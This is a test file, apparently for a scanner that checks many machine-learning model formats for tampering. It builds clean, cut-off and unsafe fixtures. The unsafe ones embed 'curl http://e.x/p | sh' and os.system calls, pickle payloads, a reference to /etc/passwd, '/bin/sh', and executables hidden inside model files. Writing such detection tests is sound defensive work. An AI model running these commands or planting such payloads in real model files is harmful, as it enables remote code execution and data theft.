import { elfOf, machOOf, peOf } from '../../../../testing/native-builder';
import { PAYLOAD, be32, bytes, floats, proto, run, u16, u32, u64, utf8, zeros } from '../../../../testing';

const pickle = proto(2, PAYLOAD);
const text16 = (value: string): Uint8Array => bytes(u16(value.length + 1), value, 0);

/** One word, a matrix of one row of two numbers, and another one. */
function fastText(rows = 1): Uint8Array {
  const matrix = bytes(0, u64(rows), u64(2), floats(2));
  const words = bytes(u32(1), u32(1), u32(0), u64(1), u64(0), 'the\0', u64(5), 0);
  return bytes(u32(793712314), u32(12), zeros(48), zeros(8), words, matrix, matrix);
}

function ctranslate2(size = 8): Uint8Array {
  const tensor = bytes(text16('encoder/w'), 1, u32(2), 0, u32(size), floats(2));
  return bytes(u32(6), text16('TransformerSpec'), u32(7), u32(1), tensor, u32(1), text16('a'), text16('b'));
}

function crf(offset = 48): Uint8Array {
  const size = 80;
  return bytes('lCRF', u32(size), 'FOMC', u32(100), zeros(12), ...[48, 50, 60, 70, offset].map(u32), zeros(32));
}

function hnsw(): Uint8Array {
  const header = bytes(u64(0), u64(10), u64(2), u64(24), u64(16), u64(8), zeros(48));
  return bytes(header, zeros(48), u32(0), u32(4), zeros(4));
}

/** One array of two numbers: what it is, its shape, its name. */
const matlab4 = (name: string, type: number, width: number, number = u32): Uint8Array =>
  bytes(...[type, 1, 2, 0, name.length + 1].map(value => number(value)), name, 0, zeros(2 * width));

/** Bytes of which each comes as often as any other, as in what is encrypted. */
const encrypted = (size = 8192): Uint8Array => {
  let state = 1;
  return Uint8Array.from({ length: size }, () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state >>> 24;
  });
};
/** Tokens of kuromoji.js, each described behind the one before it, as they are written: with room behind them. */
const tokens = (count: number, step = 20): Uint8Array =>
  bytes(
    ...Array.from({ length: count }, (_, i) => bytes(u16(i * 7), u16(i * 7), u16(0x7f3b - i), u32(i * step))),
    zeros(4000)
  );
const described = (...more: readonly string[]): Uint8Array =>
  bytes(utf8([...Array.from({ length: 20 }, (_, i) => `語${i},名詞,*,*`), ...more].join('\0')), zeros(4000));

/** A dictionary of eSpeak: words in 1,024 lists, and rules. */
const spelt = (first = 'word'): Uint8Array => {
  const lists = bytes(1 + first.length, first, zeros(1024));
  return bytes(u32(1024), u32(8 + lists.length), lists, 6, 'aa', 0, 4, 'n', 2, 'bid', 0);
};
const phonemes = bytes(u32(2), ...['base', 'af'].map(name => bytes(u32(3), name.padEnd(32, '\0'), zeros(48).fill(7))));

const faiss = (...inside: readonly Uint8Array[]): Uint8Array =>
  bytes('IxF2', u32(16), u64(1), u64(2 ** 20), u64(2 ** 20), 1, u32(1), ...inside, floats(16));
const onDisk = (file: string): Uint8Array => bytes('ilod', u64(1), u64(8), u64(0), u64(0), u64(file.length), file);

test.each([
  ['fasttext', fastText(), 'm.bin'],
  ['ctranslate2', ctranslate2(), 'model.bin'],
  ['crfsuite', crf(), 'm.crfsuite'],
  ['hnswlib', hnsw(), 'i.bin'],
  ['tesseract', bytes(u32(17), u64(140), u64(150), zeros(15 * 8).fill(255), zeros(60)), 'eng.traineddata'],
  ['tesseract', bytes(u32(11), zeros(8).fill(255), u64(92), zeros(9 * 8).fill(255), zeros(60)), 'osd.traineddata'],
  ['picovoice', encrypted(), 'alexa_linux.ppn'],
  ['picovoice', encrypted(3000), 'coffee_maker.rhn'],
  ['espeak', spelt(), 'af_dict'],
  ['espeak', phonemes, 'phontab'],
  ['espeak', bytes(u32(0x014801), u32(22050), encrypted(400)), 'phondata'],
  ['espeak', bytes(...['s1', 's2'].map(name => bytes(name.padEnd(12, '\0'), encrypted(56)))), 'intonations'],
  ['espeak', bytes(u32(20), u32(0x69), encrypted(68), zeros(24)), 'tr1_phtrans'],
  ['kuromoji', tokens(900), 'tid.dat'],
  ['kuromoji', described(), 'tid_pos.dat'],
  ['mecab', bytes(u32(2), 'UTF-8'.padEnd(32, '\0'), zeros(32)), 'model.bin'],
  ['matlab-4', bytes(matlab4('x', 0, 8), matlab4('name', 51, 1)), 'm.mat'],
  ['matlab-4', bytes(matlab4('x', 1000, 8, be32)), 'm.mat'],
  ['dawg', bytes(u32(256), zeros(1024), u32(256), zeros(512)), 'words.dawg'],
  ['sentencepiece-rules', bytes(u32(1024), zeros(1024), utf8(' \u0301\0ss\0'.repeat(20))), 'nfkc.bin'],
  ['sphinx', bytes('s3\nversion 1.0\nchksum0 yes\n      endhdr\nD3"\x11', floats(9)), 'means'],
  ['sphinx', bytes('BMDF', u32(1), u32(28), 'BEGIN FILE FORMAT DESCRIPTION\n', zeros(40)), 'mdef'],
  ['sphinx', bytes('Trie Language Model', 3, u32(43), floats(9)), 'en.lm.bin'],
  ['kaldi', bytes('\0B', 4, u32(1), 4, u32(2), 4, u32(3), 4, u32(3), 8, u64(9), floats(9)), 'G.carpa'],
  ['mecab', bytes(u16(3), u16(2), zeros(12)), 'matrix.bin'],
  ['mecab', bytes(u32(1), 'DEFAULT'.padEnd(32, '\0'), zeros(4 * 0xffff)), 'char.bin'],
  [
    'mecab',
    bytes(
      u32(0xef718f77 ^ 102),
      u32(102),
      zeros(16),
      u32(8),
      u32(12),
      u32(10),
      u32(0),
      'UTF-8'.padEnd(32, '\0'),
      zeros(30)
    ),
    'sys.dic'
  ],
  ['word2vec-binary', bytes('2 2\n', 'a ', floats(2), '\nb ', floats(2), '\n'), 'v.bin'],
  ['word2vec-text', utf8('2 3\nking 0.1 0.2 0.3\nqueen -0.1 0.5 1e-3\n'), 'v.vec'],
  ['glove', utf8(['the', 'of'].map(word => `${word} 0.1 -0.2 3e-2 4 5 6 7 8 9\n`).join('')), 'glove.txt'],
  [
    'libsvm',
    utf8('svm_type c_svc\nkernel_type rbf\ngamma 0.5\nrho -0.1\nlabel 1 -1\nSV\n0.5 1:0.5 2:-1e-3\n'),
    'm.model'
  ],
  ['libsvm', utf8('solver_type L2R_LR\nnr_class 2\nlabel 1 2\nnr_feature 2\nbias -1\nw\n0.5 \n-0.25 \n'), 'm.model'],
  ['ncnn', utf8('7767517\n2 2\nInput data 0 1 data 0=3\nConvolution c1 1 1 data out 0=16 1=3\n'), 'm.param'],
  ['faiss', faiss(), 'i.index'],
  ['kaldi', bytes('\0B<TransitionModel> ', zeros(64)), 'final.mdl'],
  ['picovoice', bytes('rhino4.1.0', floats(64)), 'rhino_params.pv'],
  ['rknn', bytes('RKNN', zeros(64)), 'm.rknn'],
  ['darknet', bytes(u32(0), u32(2), u32(0), u64(64), floats(64)), 'yolo.weights'],
  ['dlib', bytes(1, 1, 1, 13, 'loss_metric_2', zeros(64)), 'm.dat'],
  ['matlab', bytes('MATLAB 5.0 MAT-file, Platform: GLNXA64'.padEnd(124), 0, 1, 'IM', zeros(64)), 'm.mat']
])('honest: %s', (format, data, name) => {
  expect(run(data, {}, name)).toMatchObject({ verdict: 'clean', format });
});

test.each([
  [
    'parts of Tesseract out of order',
    bytes(u32(17), u64(140), u64(130), zeros(15 * 8).fill(255), zeros(60)),
    'e.traineddata'
  ],
  ['what is encrypted under the name of a model', encrypted(), 'm.bin'],
  ['words in a file for keywords', bytes(encrypted(5000), 'import os, '.repeat(40), encrypted(5000)), 'alexa.ppn'],
  ['numbers in a file for keywords', bytes(encrypted(5000), zeros(600), encrypted(5000)), 'alexa.ppn'],
  ['a list of eSpeak that is too long', bytes(spelt().subarray(0, 500), encrypted(2000)), 'af_dict'],
  ['phonemes with a rest', bytes(phonemes, 1), 'phontab'],
  ['tokens with a rest', bytes(tokens(900), 'and more'), 'tid.dat'],
  ['descriptions with a rest', bytes(described(), 1, 2, 3), 'tid_pos.dat'],
  ['costs of MeCab of another size', bytes(u16(3), u16(2), zeros(14)), 'matrix.bin'],
  ['fastText, cut', fastText(9), 'm.bin'],
  ['CTranslate2, cut', ctranslate2(9_000_000), 'model.bin'],
  ['word2vec with a rest', bytes('1 2\n', 'a ', floats(2), '\nand more'), 'v.bin'],
  ['words among vectors', utf8('2 3\nking 0.1 0.2 0.3\nthis is prose\n'), 'v.vec']
])('not clean: %s', (_name, data, name) => {
  expect(run(data, {}, name).verdict).toBe('incomplete');
});

test.each([
  ['an offset behind the end', crf(4000), 'm.crfsuite'],
  ['a pickle behind a header', bytes('RKNN', pickle), 'm.rknn'],
  ['a pickle in an index', faiss(pickle), 'i.index'],
  ['code among the texts', bytes('RKNN', zeros(8), '{"cmd":"curl http://e.x/p | sh"}', zeros(8)), 'm.rknn'],
  ['lists in a file of the system', faiss(onDisk('/etc/passwd.txt')), 'i.index'],
  [
    'a library in an engine',
    bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(9), u16(3), u16(62), zeros(64)),
    'm.engine'
  ],
  [
    'a program for Windows in an engine',
    bytes('ftrt', zeros(60), 'MZ', zeros(58), u32(64), 'PE\0\0', zeros(64)),
    'm.plan'
  ],
  ['a plug-in of somebody', bytes('ftrt', zeros(60), '/tmp/x/libplugin.so', zeros(60)), 'm.engine'],
  ['a shell', bytes('ftrt', zeros(60), '/bin/sh', zeros(60)), 'm.engine'],
  ['a pickle in a file for keywords', bytes(encrypted(64), pickle, encrypted(8000)), 'alexa.ppn'],
  ['code among words', spelt("os.system('curl http://e.x/p | sh')"), 'af_dict'],
  ['code among descriptions', described("x,os.system('curl http://e.x/p | sh')"), 'tid_pos.dat'],
  ['code in a broken file', bytes(u32(793712314), u32(12), "os.system('id')"), 'm.bin']
])('unsafe: %s', (_name, data, name) => {
  expect(run(data, {}, name).verdict).toBe('unsafe');
});

test('an engine with code for a GPU is to be reviewed', () => {
  const engine = bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(9), u16(2), u16(190), zeros(64));
  expect(run(engine, {}, 'm.engine').verdict).toBe('review');
});

describe('numbers that only a name tells', () => {
  /** As quantised weights are: any bytes, and no words. */
  const numbers = Uint8Array.from({ length: 1600 }, (_, i) => (Math.sin(i * 78.233) * 43758.5453) & 255);

  test.each([
    'model.onnx.data',
    'model.onnx_data_1',
    'group1-shard1of2.bin',
    'weight.bin',
    'variables.data-00000-of-00001',
    'i.ann'
  ])('%s', name => {
    expect(run(numbers, {}, name).verdict).toBe('clean');
    expect(run(bytes(numbers, pickle), {}, name).verdict).toBe('unsafe');
    expect(run(pickle, {}, name).verdict).toBe('unsafe');
  });

  test('another name proves nothing', () => {
    expect(run(numbers, {}, 'model.bin').coverage[0]).toMatchObject({
      status: 'not-understood',
      reason: 'unknown-format',
      params: { bytes: expect.stringMatching(/^([0-9a-f]{2} ){7}[0-9a-f]{2}$/) as string }
    });
    expect(run(bytes(numbers, 'PK\x05\x06', zeros(18)), {}, 'weight.bin').verdict).not.toBe('clean');
  });
});

describe('programs for a computer', () => {
  const head = 'RKNN\0\0\0\0';
  const rules = (data: Uint8Array, name: string): string[] =>
    run(data, undefined, name).findings.map(({ severity, rule }) => `${severity} ${rule}`);

  test.each([
    ['ELF', elfOf(3)],
    ['PE', peOf(0x22)],
    ['Mach-O', machOOf(6)]
  ])('%s is found where nothing is read', (_, program) => {
    const carried = bytes(zeros(100), program, zeros(100));
    expect(rules(bytes(head, carried), 'm.rknn')).toEqual(['MEDIUM program-in-model']);
    expect(rules(bytes(crf(), carried), 'm.crfsuite')).toEqual(['MEDIUM program-in-model']);
    expect(rules(bytes(zeros(9).fill(0xf7), carried), 'm.plan')).toEqual(['MEDIUM program-in-model']);
  });

  test.each([
    ['a magic number by chance', bytes('MZ', zeros(40).fill(7))],
    ['code for a graphics card', bytes('\x7fELF\x02\x01\x01', zeros(9), u16(2), u16(190), zeros(44))]
  ])('%s is none', (_, data) => {
    expect(rules(bytes(head, zeros(100), data, zeros(100)), 'm.rknn')).toEqual([]);
  });

  test('far behind, in a large file', () => {
    const large = bytes(head, zeros(33 * 2 ** 20), elfOf(2), zeros(100));
    expect(rules(large, 'm.rknn')).toEqual(['MEDIUM program-in-model']);
  });

  test('code behind the end of what was read', () => {
    expect(rules(bytes(crf(), "__import__('os').system('id')"), 'm.crfsuite')).toEqual(['MEDIUM data-carries-code']);
  });
});

test.each([
  [
    'a count that is not that of the file',
    bytes(
      u32(256),
      Uint8Array.from({ length: 1024 }, (_, i) => (i * 7919) % 251),
      u32(255),
      zeros(512)
    ),
    'words.dawg'
  ],
  ['an array that reaches beyond the end', matlab4('x', 0, 8).subarray(0, 30), 'm.mat'],
  ['bytes behind the last array', bytes(matlab4('x', 0, 8), 1, 2, 3), 'm.mat'],
  ['a header of Sphinx without its end', bytes('s3\nversion 1.0\n', zeros(40)), 'means'],
  ['rules that are no text', bytes(u32(1024), zeros(1024).fill(0x9d), 'a\0'.repeat(60), 0xff, 0), 'nfkc.bin'],
  ['pairs that do not fill the file', bytes(u32(2), 'UTF-8'.padEnd(32, '\0'), zeros(33)), 'model.bin']
])('is not clean: %s', (_, data, name) => {
  expect(run(data, undefined, name).verdict).toBe('incomplete');
});

test.each([
  ['words.dawg', bytes(u32(256), pickle, zeros(1024 - pickle.length), u32(256), zeros(512))],
  [
    'm.mat',
    bytes(
      matlab4('x', 0, 8),
      matlab4('y', 50, 1).subarray(0, 4),
      u32(1),
      u32(pickle.length),
      zeros(4),
      u32(2),
      'y\0',
      pickle
    )
  ],
  ['means', bytes('s3\nversion 1.0\n endhdr\nD3"\x11', zeros(30), pickle)],
  ['model.bin', bytes(u32(10), 'UTF-8'.padEnd(32, '\0'), pickle, zeros(160 - pickle.length))]
])('a pickle in %s is found', (name, data) => {
  expect(run(data, undefined, name).verdict).toBe('unsafe');
});
